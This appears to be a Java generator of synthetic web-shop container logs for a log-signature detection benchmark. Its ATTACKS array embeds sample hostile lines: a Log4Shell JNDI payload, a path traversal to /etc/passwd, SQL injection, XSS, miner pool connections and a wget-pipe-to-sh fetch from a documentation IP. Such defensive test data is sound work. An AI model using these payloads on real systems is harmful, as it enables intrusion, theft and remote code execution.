package dev.vigil.bench;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * A deterministic corpus of container log lines for the log-signature benchmarks: what a small web shop's containers
 * print (nginx access lines, pino JSON, Celery, Spring Boot with stack traces, Postgres, Redis, Go logfmt, lines with
 * accented and CJK text, near misses such as "virus scan report"), with rare attack lines mixed in (about one line in
 * {@link #ATTACK_EVERY}). The same seed and size always give the same bytes, so grep and Vigil can be compared on the
 * same file and the numbers of matching lines compared.
 *
 * <pre>
 * java -cp ... dev.vigil.bench.LogCorpus target/logsig/corpus.log 500 [seed]
 * </pre>
 */
public final class LogCorpus {

  /** On average one attack line per this many lines. */
  public static final int ATTACK_EVERY = 5_000;

  private static final String[] METHODS = {"GET", "GET", "GET", "GET", "POST", "POST", "PUT", "DELETE", "PATCH"};
  private static final int[] STATUSES = {200, 200, 200, 200, 200, 200, 201, 204, 301, 302, 304, 304, 400, 401, 403,
      404, 404, 409, 422, 500, 502, 503};
  private static final String[] AGENTS = {
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
      "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
      "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
      "kube-probe/1.31", "Prometheus/2.54.1", "curl/8.5.0", "okhttp/4.12.0", "python-requests/2.32.3",
      "Go-http-client/1.1", "Googlebot/2.1 (+http://www.google.com/bot.html)", "ELB-HealthChecker/2.0"};
  private static final String[] CATEGORIES = {"shoes", "jackets", "garden", "kitchen", "toys", "books", "audio",
      "laptops", "bikes", "camping", "coffee", "lamps"};
  private static final String[] WORDS = {"red", "wool", "winter", "boots", "espresso", "grinder", "tent", "lamp",
      "usb-c", "cable", "running", "kids", "desk", "chair", "oak", "linen", "scarf", "union", "choice", "script",
      "report", "scan", "shell", "password", "admin", "login", "token", "cmd", "exec", "sleep", "passwd"};
  private static final String[] NAMES = {"José Müller", "Zoë Brontë", "François Lefèvre", "Łukasz Żółć",
      "Søren Kierkegård", "Ana María Núñez", "Ærøskøbing Ltd", "山田太郎", "Иван Петров", "Οδυσσέας Ελύτης",
      "María José García", "Björk Guðmundsdóttir", "Dvořák Antonín", "Nguyễn Văn An"};
  private static final String[] CITIES = {"Zürich", "Kraków", "Malmö", "São Paulo", "Besançon", "Reykjavík", "東京",
      "Москва", "Αθήνα", "Hà Nội", "Cork", "Lyon"};
  private static final String[] CELERY_TASKS = {"worker.tasks.send_email", "worker.tasks.resize_image",
      "worker.tasks.sync_inventory", "worker.tasks.charge_card", "worker.tasks.rebuild_search_index",
      "worker.tasks.export_report"};
  private static final String[] JAVA_CLASSES = {"c.e.shop.order.OrderService", "c.e.shop.cart.CartController",
      "c.e.shop.payment.PaymentClient", "o.s.web.servlet.DispatcherServlet", "c.z.hikari.pool.HikariPool",
      "o.h.engine.jdbc.spi.SqlExceptionHelper", "c.e.shop.catalog.PriceCache"};
  private static final String[] SQL = {
      "SELECT o.id, o.total, o.status FROM orders o WHERE o.customer_id = %d AND o.status = 'paid' ORDER BY o.created_at DESC LIMIT 20",
      "UPDATE inventory SET reserved = reserved + 1 WHERE sku = 'SKU-%d' AND reserved < stock",
      "INSERT INTO audit_log (actor, action, at) VALUES ('svc-api', 'order.update', now()) RETURNING id -- %d",
      "SELECT p.id, p.name, p.price FROM products p JOIN categories c ON c.id = p.category_id WHERE c.slug = 'shoes' AND p.id > %d",
      "DELETE FROM sessions WHERE expires_at < now() - interval '1 day' AND user_id = %d"};
  private static final String[] NEAR_MISSES = {
      "clamd[1]: virus scan report: /srv/uploads/invoice-%d.pdf: OK (0 infected files)",
      "union members selected for the %d committee: 12",
      "resolving ../assets/img/logo-%d.png relative to /srv/www/static/css",
      "user %d changed their password; sessions revoked",
      "nginx: script engine reloaded (%d modules)",
      "shell completion cache rebuilt in %d ms",
      "the cron job sleeping 5 minutes before retry %d",
      "healthcheck: curl/8.5.0 GET /healthz -> 200 (%d ms)",
      "select2 widget loaded for product filter %d",
      "loaded 1 plugin from /usr/lib/grafana/plugins (id %d)"};
  private static final String[] ATTACKS = {
      "203.0.113.7 - - [%s] \"GET /?x=${jndi:ldap://203.0.113.7:1389/Exploit} HTTP/1.1\" 200 612 \"-\" \"Mozilla/5.0\"",
      "198.51.100.23 - - [%s] \"GET /download?file=../../../../etc/passwd HTTP/1.1\" 400 157 \"-\" \"curl/8.5.0\"",
      "198.51.100.23 - - [%s] \"GET /products?id=1%%27%%20UNION%%20SELECT%%20username,password%%20FROM%%20users-- HTTP/1.1\" 500 0 \"-\" \"sqlmap/1.8.2#stable (https://sqlmap.org)\"",
      "192.0.2.44 - - [%s] \"GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\"",
      "192.0.2.44 - - [%s] \"GET /cgi-bin/test.cgi HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)\"",
      "Nmap scan report for 10.0.3.7 (%s)",
      "[%s]  net      new job from pool.supportxmr.com:3333 diff 120001 algo rx/0 height 3271838",
      "sshd[44]: Failed password for invalid user admin from 203.0.113.9 port 51234 ssh2 (%s)",
      "{\"level\":50,\"msg\":\"upstream\",\"url\":\"stratum+tcp://xmr.example.net:4444\",\"t\":\"%s\"}",
      "+ sh -c 'wget http://203.0.113.7/x.sh -O- | sh' # %s"};

  private final SplittableRandom rnd;
  private long lineNo;
  private long epochMillis = 1_764_411_332_000L;

  public LogCorpus(long seed) {
    this.rnd = new SplittableRandom(seed);
  }

  public static void main(String[] args) throws IOException {
    if (args.length < 2) {
      System.err.println("usage: LogCorpus <out-file> <megabytes> [seed]");
      System.exit(2);
    }
    Path out = Path.of(args[0]);
    long target = Long.parseLong(args[1]) * 1024 * 1024;
    long seed = args.length > 2 ? Long.parseLong(args[2]) : 20261129L;
    LogCorpus corpus = new LogCorpus(seed);
    long written = 0;
    long lines = 0;
    try (OutputStream os = new BufferedOutputStream(Files.newOutputStream(out), 1 << 20)) {
      while (written < target) {
        byte[] b = corpus.nextLine().getBytes(StandardCharsets.UTF_8);
        os.write(b);
        os.write('\n');
        written += b.length + 1;
        lines++;
      }
    }
    System.err.printf("wrote %s: %d lines, %d bytes%n", out, lines, written);
  }

  /** The first {@code n} lines of the corpus for this seed. */
  public static List<String> lines(long seed, int n) {
    LogCorpus c = new LogCorpus(seed);
    List<String> out = new ArrayList<>(n);
    for (int i = 0; i < n; i++) {
      out.add(c.nextLine());
    }
    return out;
  }

  public String nextLine() {
    lineNo++;
    epochMillis += rnd.nextInt(40);
    if (rnd.nextInt(ATTACK_EVERY) == 0) {
      return String.format(pick(ATTACKS), nginxTime());
    }
    int k = rnd.nextInt(1000);
    if (k < 350) {
      return access();
    } else if (k < 550) {
      return pino();
    } else if (k < 650) {
      return celery();
    } else if (k < 770) {
      return java();
    } else if (k < 850) {
      return postgres();
    } else if (k < 880) {
      return redis();
    } else if (k < 950) {
      return logfmt();
    } else if (k < 985) {
      return profile();
    } else {
      return String.format(pick(NEAR_MISSES), rnd.nextInt(100_000));
    }
  }

  private String access() {
    String path;
    switch (rnd.nextInt(8)) {
      case 0:
        path = "/api/v1/orders/" + rnd.nextInt(1_000_000);
        break;
      case 1:
        path = "/api/v1/users/" + rnd.nextInt(100_000) + "/profile";
        break;
      case 2:
        path = "/static/js/app." + hex(8) + ".js";
        break;
      case 3:
        path = "/healthz";
        break;
      case 4:
        path = "/products?category=" + pick(CATEGORIES) + "&page=" + rnd.nextInt(1, 40);
        break;
      case 5:
        path = "/search?q=" + pick(WORDS) + "+" + pick(WORDS) + "&sort=price";
        break;
      case 6:
        path = "/images/catalog/" + pick(CATEGORIES) + "/" + rnd.nextInt(100_000) + "-800w.webp";
        break;
      default:
        path = "/cart/items/" + rnd.nextInt(10_000) + "?session=" + hex(16);
    }
    String referer = rnd.nextInt(3) == 0 ? "-" : "https://shop.example.com/" + pick(CATEGORIES);
    return ip() + " - - [" + nginxTime() + "] \"" + pick(METHODS) + " " + path + " HTTP/1.1\" "
        + STATUSES[rnd.nextInt(STATUSES.length)] + " " + rnd.nextInt(200, 90_000) + " \"" + referer + "\" \""
        + pick(AGENTS) + "\" rt=" + rnd.nextInt(1, 900) / 1000.0;
  }

  private String pino() {
    int status = STATUSES[rnd.nextInt(STATUSES.length)];
    return "{\"level\":" + (status >= 500 ? 50 : 30) + ",\"time\":" + epochMillis + ",\"pid\":1,\"hostname\":\"api-"
        + hex(10) + "\",\"reqId\":\"req-" + Long.toString(lineNo, 36) + "\",\"req\":{\"method\":\"" + pick(METHODS)
        + "\",\"url\":\"/api/v1/" + pick(CATEGORIES) + "/" + rnd.nextInt(100_000) + "\",\"remoteAddress\":\"" + ip()
        + "\"},\"res\":{\"statusCode\":" + status + "},\"responseTime\":" + rnd.nextInt(1, 2000) / 10.0
        + ",\"msg\":\"request completed\"}";
  }

  private String celery() {
    String task = pick(CELERY_TASKS) + "[" + uuid() + "]";
    switch (rnd.nextInt(4)) {
      case 0:
        return "[" + isoTime(' ', ',') + ": INFO/MainProcess] Task " + task + " received";
      case 1:
        return "[" + isoTime(' ', ',') + ": WARNING/ForkPoolWorker-" + rnd.nextInt(1, 9) + "] Task " + task
            + " retry: Retry in 30s: ConnectionError('Connection to smtp.example.com timed out')";
      default:
        return "[" + isoTime(' ', ',') + ": INFO/ForkPoolWorker-" + rnd.nextInt(1, 9) + "] Task " + task
            + " succeeded in " + rnd.nextInt(1, 5000) / 1000.0 + "s: None";
    }
  }

  private String java() {
    String cls = pick(JAVA_CLASSES);
    switch (rnd.nextInt(6)) {
      case 0:
        return "\tat com.example.shop." + pick(CATEGORIES) + ".Service.handle(Service.java:" + rnd.nextInt(20, 900)
            + ") ~[shop-api-2.14.3.jar:2.14.3]";
      case 1:
        return isoTime('T', '.') + "Z  WARN 1 --- [nio-8080-exec-" + rnd.nextInt(1, 200) + "] " + cls
            + " : Retrying payment for order " + rnd.nextInt(1_000_000)
            + " after java.net.SocketTimeoutException: Read timed out";
      default:
        return isoTime('T', '.') + "Z  INFO 1 --- [nio-8080-exec-" + rnd.nextInt(1, 200) + "] " + cls + " : Order "
            + rnd.nextInt(1_000_000) + " placed by customer " + rnd.nextInt(100_000) + " total="
            + rnd.nextInt(100, 100_000) / 100.0 + " EUR items=" + rnd.nextInt(1, 12);
    }
  }

  private String postgres() {
    String prefix = isoTime(' ', '.') + " UTC [" + rnd.nextInt(30, 9000) + "] ";
    switch (rnd.nextInt(5)) {
      case 0:
        return prefix + "LOG:  checkpoint complete: wrote " + rnd.nextInt(10, 5000)
            + " buffers (1.2%); 0 WAL file(s) added, 0 removed, 1 recycled; write=26.912 s, sync=0.004 s, total=26.931 s";
      case 1:
        return prefix + "LOG:  connection authorized: user=shop database=shop application_name=shop-api";
      default:
        return prefix + "LOG:  duration: " + rnd.nextInt(1, 90_000) / 1000.0 + " ms  statement: "
            + String.format(pick(SQL), rnd.nextInt(1_000_000));
    }
  }

  private String redis() {
    if (rnd.nextBoolean()) {
      return "1:M 29 Nov 2026 10:" + two(rnd.nextInt(60)) + ":" + two(rnd.nextInt(60)) + "." + rnd.nextInt(100, 1000)
          + " * " + rnd.nextInt(1, 10_000) + " changes in 300 seconds. Saving...";
    }
    return "1:C 29 Nov 2026 10:" + two(rnd.nextInt(60)) + ":" + two(rnd.nextInt(60)) + "." + rnd.nextInt(100, 1000)
        + " * DB saved on disk; Background saving terminated with success (fork " + rnd.nextInt(1, 90) + " ms)";
  }

  private String logfmt() {
    return "time=" + isoTime('T', '.') + "Z level=" + (rnd.nextInt(10) == 0 ? "warn" : "info") + " msg=\""
        + (rnd.nextBoolean() ? "cache refreshed" : "upstream call finished") + "\" component=catalog items="
        + rnd.nextInt(1, 50_000) + " duration=" + rnd.nextInt(1, 9000) / 10.0 + "ms trace_id=" + hex(32);
  }

  private String profile() {
    return isoTime('T', '.') + "Z INFO profile updated: id=" + rnd.nextInt(100_000) + " name=\"" + pick(NAMES)
        + "\" city=\"" + pick(CITIES) + "\" note=\"livraison à domicile — 配達 — доставка\"";
  }

  private String pick(String[] a) {
    return a[rnd.nextInt(a.length)];
  }

  private String ip() {
    return "10." + rnd.nextInt(256) + "." + rnd.nextInt(256) + "." + rnd.nextInt(1, 255);
  }

  private String hex(int n) {
    StringBuilder sb = new StringBuilder(n);
    for (int i = 0; i < n; i++) {
      sb.append(Character.forDigit(rnd.nextInt(16), 16));
    }
    return sb.toString();
  }

  private String uuid() {
    return hex(8) + "-" + hex(4) + "-4" + hex(3) + "-a" + hex(3) + "-" + hex(12);
  }

  private String nginxTime() {
    long s = epochMillis / 1000;
    return "29/Nov/2026:" + two((int) (s / 3600 % 24)) + ":" + two((int) (s / 60 % 60)) + ":" + two((int) (s % 60))
        + " +0000";
  }

  private String isoTime(char sep, char frac) {
    long s = epochMillis / 1000;
    return "2026-11-29" + sep + two((int) (s / 3600 % 24)) + ":" + two((int) (s / 60 % 60)) + ":" + two((int) (s % 60))
        + frac + String.format("%03d", epochMillis % 1000);
  }

  private static String two(int v) {
    return v < 10 ? "0" + v : Integer.toString(v);
  }
}
